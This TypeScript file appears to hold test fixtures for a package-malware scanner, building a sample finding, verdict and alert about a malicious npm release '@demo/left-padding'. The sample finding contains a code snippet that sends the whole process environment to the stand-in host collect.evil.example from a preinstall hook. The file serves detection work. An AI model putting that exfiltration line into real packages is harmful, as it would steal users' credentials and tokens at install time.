import type { Alert, Finding, VerdictRecorded } from '@weir/model';

/** 09:59:20 seen, 09:59:00 published: an alert sent at `SAMPLE_SENT_AT_MS` is 41 s old. */
export const SAMPLE_SENT_AT_MS = Date.parse('2026-11-23T09:59:41.000Z');

/** A finding of an install-time theft, overridable field by field. */
export function sampleFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    detector: 'env-exfiltration',
    rule: 'env-exfiltration/hook-reachable',
    kind: 'threat',
    basis: 'content',
    severity: 'critical',
    stage: 'install',
    confidence: 0.95,
    class: 'malware',
    summary: 'preinstall sends the whole environment to https://collect.evil.example/c',
    location: { file: 'package/a.js', line: 12, endLine: 14, layer: null },
    snippet:
      "https.request('https://collect.evil.example/c', {method: 'POST'}).end(JSON.stringify(process.env))",
    indicators: [
      { type: 'url', value: 'https://collect.evil.example/c' },
      { type: 'domain', value: 'collect.evil.example' },
    ],
    chain: ['process.env', 'JSON.stringify', 'https.request'],
    ...overrides,
  };
}

/** A critical verdict of an analysis, overridable field by field. */
export function sampleVerdict(overrides: Partial<VerdictRecorded> = {}): VerdictRecorded {
  return {
    verdictId: '019ab000-0000-7000-8000-0000000000a1',
    release: {
      registry: 'npmjs',
      ecosystem: 'npm',
      name: '@demo/left-padding',
      displayName: '@demo/left-padding',
      version: '1.0.1',
      purl: 'pkg:npm/%40demo/left-padding@1.0.1',
    },
    releaseId: '019ab000-0000-7000-8000-0000000000b1',
    fileId: '019ab000-0000-7000-8000-0000000000c1',
    filename: 'left-padding-1.0.1.tgz',
    artifactSha256: 'ab'.repeat(32),
    analysisId: '019ab000-0000-7000-8000-0000000000d1',
    judgement: {
      verdict: 'malicious',
      complete: true,
      score: 94,
      level: 'critical',
      class: 'malware',
      stage: 'install',
      scoringVersion: '1',
    },
    rulesetVersion: 'r-0123456789ab',
    actor: { kind: 'analysis', name: 'analyzer' },
    supersedes: null,
    topFindings: [
      sampleFinding(),
      sampleFinding({
        detector: 'lifecycle-script',
        rule: 'lifecycle-script/runs-file',
        severity: 'medium',
        summary: 'preinstall runs a file of the package',
        location: { file: 'package/package.json', line: 7, endLine: null, layer: null },
        snippet: '"preinstall": "node a.js"',
        indicators: [],
        chain: [],
      }),
      sampleFinding({
        detector: 'publisher-change',
        rule: 'publisher-change/new-account',
        basis: 'context',
        severity: 'medium',
        summary: 'published by an account that published none of the 14 versions before',
        location: null,
        snippet: null,
        indicators: [],
        chain: [],
      }),
    ],
    findingCount: 9,
    publisher: 'quiet-fox',
    seenAt: '2026-11-23T09:59:20.000Z',
    publishedAt: '2026-11-23T09:59:00.000Z',
    decidedAt: '2026-11-23T09:59:40.000Z',
    origin: { lane: 'live', replay: false, muted: false },
    ...overrides,
  };
}

/** An alert over {@link sampleVerdict}. */
export function sampleAlert(overrides: Partial<Alert> = {}): Alert {
  return {
    id: '019ab000-0000-7000-8000-0000000000e1',
    verdict: sampleVerdict(),
    possibleDuplicate: false,
    files: ['left-padding-1.0.1.tgz'],
    fileCount: 1,
    raisedFrom: null,
    ...overrides,
  };
}
